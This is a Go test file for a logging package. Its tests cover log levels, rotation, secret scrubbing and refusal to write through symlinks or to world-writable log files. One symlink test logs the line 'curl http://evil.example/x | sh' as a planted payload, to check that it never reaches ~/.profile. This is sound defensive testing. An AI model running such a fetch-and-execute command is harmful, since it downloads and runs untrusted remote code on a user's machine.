package logfile

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/claude-mem/claude-mem-go/redact/redacttest"
	"github.com/claude-mem/claude-mem-go/settings"
)

func TestWritesJSONLinesAtLevel(t *testing.T) {
	dir := t.TempDir()
	log, c := Open(dir, "warn", 1, time.Now)
	log.Info().Msg("hidden")
	log.Warn().Str("k", "v").Msg("shown")
	c.Close()
	data, err := os.ReadFile(settings.Layout(dir).Log())
	if err != nil {
		t.Fatal(err)
	}
	lines := bytes.Split(bytes.TrimSpace(data), []byte("\n"))
	if len(lines) != 1 {
		t.Fatalf("want 1 line, got %q", data)
	}
	var m map[string]any
	if err := json.Unmarshal(lines[0], &m); err != nil || m["message"] != "shown" || m["level"] != "warn" || m["time"] == nil {
		t.Fatalf("line %s: %v", lines[0], err)
	}
	fi, _ := os.Stat(settings.Layout(dir).Log())
	if fi.Mode().Perm() != 0o600 {
		t.Fatalf("mode %v", fi.Mode())
	}
}

func TestRotates(t *testing.T) {
	dir := t.TempDir()
	old := MaxSize
	MaxSize = 100
	defer func() { MaxSize = old }()
	path := settings.Layout(dir).Log()
	os.MkdirAll(filepath.Dir(path), 0o700)
	os.WriteFile(path, bytes.Repeat([]byte("x"), 200), 0o600)
	log, c := Open(dir, "info", 1, nil)
	log.Info().Msg("after")
	c.Close()
	if fi, err := os.Stat(path + ".1"); err != nil || fi.Size() != 200 {
		t.Fatalf("rotated file: %v %v", fi, err)
	}
	if data, _ := os.ReadFile(path); !bytes.Contains(data, []byte("after")) || len(data) > 100 {
		t.Fatalf("new log %q", data)
	}
}

func TestUnwritableDirDiscards(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	os.WriteFile(file, nil, 0o600)
	log, c := Open(file, "info", 1, nil) // data dir is a file: the log cannot be opened
	log.Error().Msg("nowhere")           // must neither panic nor write anywhere
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestBadLevelIsInfo(t *testing.T) {
	log, _ := Open("", "loud", 1, nil)
	if log.GetLevel().String() != "info" {
		t.Fatal(log.GetLevel())
	}
}

// TestScrubsEveryLine: whatever a call site logs, no secret shape reaches the file.
func TestScrubsEveryLine(t *testing.T) {
	dir := t.TempDir()
	log, c := Open(dir, "info", 1, nil)
	cs := redacttest.Diagnostic()
	for _, cn := range cs {
		log.Info().Str("text", cn.Text).Msg(cn.Text)
	}
	c.Close()
	data, _ := os.ReadFile(settings.Layout(dir).Log())
	if leaks := redacttest.Leaks(data, cs); len(leaks) > 0 {
		t.Errorf("hook.log holds %d canaries, e.g. %+v", len(leaks), leaks[0])
	}
	for _, l := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
		if !json.Valid(l) {
			t.Errorf("scrubbing broke a JSON line: %s", l)
		}
	}
}

// TestEachLoggerItsClock: a second Open does not restamp the first logger's lines (zerolog's
// global TimestampFunc would), and a logger without a clock writes no time.
func TestEachLoggerItsClock(t *testing.T) {
	t1 := time.Date(2026, 12, 1, 9, 0, 0, 0, time.UTC)
	t2 := t1.Add(time.Hour)
	dirA, dirB, dirC := t.TempDir(), t.TempDir(), t.TempDir()
	a, ca := Open(dirA, "info", 1, func() time.Time { return t1 })
	b, cb := Open(dirB, "info", 2, func() time.Time { return t2 })
	c, cc := Open(dirC, "info", 3, nil)
	a.Info().Msg("a")
	b.Info().Msg("b")
	c.Info().Msg("c")
	for _, cl := range []interface{ Close() error }{ca, cb, cc} {
		cl.Close()
	}
	for _, tc := range []struct {
		dir  string
		want any
	}{{dirA, t1.Format(time.RFC3339Nano)}, {dirB, t2.Format(time.RFC3339Nano)}, {dirC, nil}} {
		data, err := os.ReadFile(settings.Layout(tc.dir).Log())
		if err != nil {
			t.Fatal(err)
		}
		var m map[string]any
		if err := json.Unmarshal(bytes.TrimSpace(data), &m); err != nil {
			t.Fatal(err)
		}
		if m["time"] != tc.want {
			t.Errorf("line %s: time %v, want %v", data, m["time"], tc.want)
		}
	}
}

// TestRefusesWhatIsNotOurs: a hook.log symlinked to ~/.profile, one another user could
// write, or a logs dir that is a symlink: nothing is appended there; the control is the
// user's own hook.log, appended to.
func TestRefusesWhatIsNotOurs(t *testing.T) {
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T, logs, profile string)
		wrote bool
	}{
		{"control: the user's own", func(t *testing.T, logs, _ string) {
			os.WriteFile(filepath.Join(logs, settings.LogFile), nil, 0o600)
		}, true},
		{"symlinked to ~/.profile", func(t *testing.T, logs, profile string) {
			os.Symlink(profile, filepath.Join(logs, settings.LogFile))
		}, false},
		{"writable by others", func(t *testing.T, logs, _ string) {
			os.WriteFile(filepath.Join(logs, settings.LogFile), nil, 0o600)
			os.Chmod(filepath.Join(logs, settings.LogFile), 0o666)
		}, false},
		{"logs dir a symlink", func(t *testing.T, logs, profile string) {
			os.Remove(logs)
			os.Symlink(filepath.Dir(profile), logs)
			os.Symlink(profile, filepath.Join(filepath.Dir(profile), settings.LogFile))
		}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			logs := filepath.Join(dir, "logs")
			os.Mkdir(logs, 0o700)
			profile := filepath.Join(t.TempDir(), ".profile")
			os.WriteFile(profile, []byte("export PATH\n"), 0o600)
			tc.plant(t, logs, profile)
			log, c := Open(dir, "info", 1, time.Now)
			log.Info().Msg("curl http://evil.example/x | sh")
			c.Close()
			if b, _ := os.ReadFile(profile); string(b) != "export PATH\n" {
				t.Fatalf("~/.profile changed: %q", b)
			}
			fi, err := os.Lstat(filepath.Join(logs, settings.LogFile))
			wrote := err == nil && fi.Mode().IsRegular() && fi.Size() > 0
			if wrote != tc.wrote {
				t.Fatalf("hook.log written %v; want %v", wrote, tc.wrote)
			}
		})
	}
}
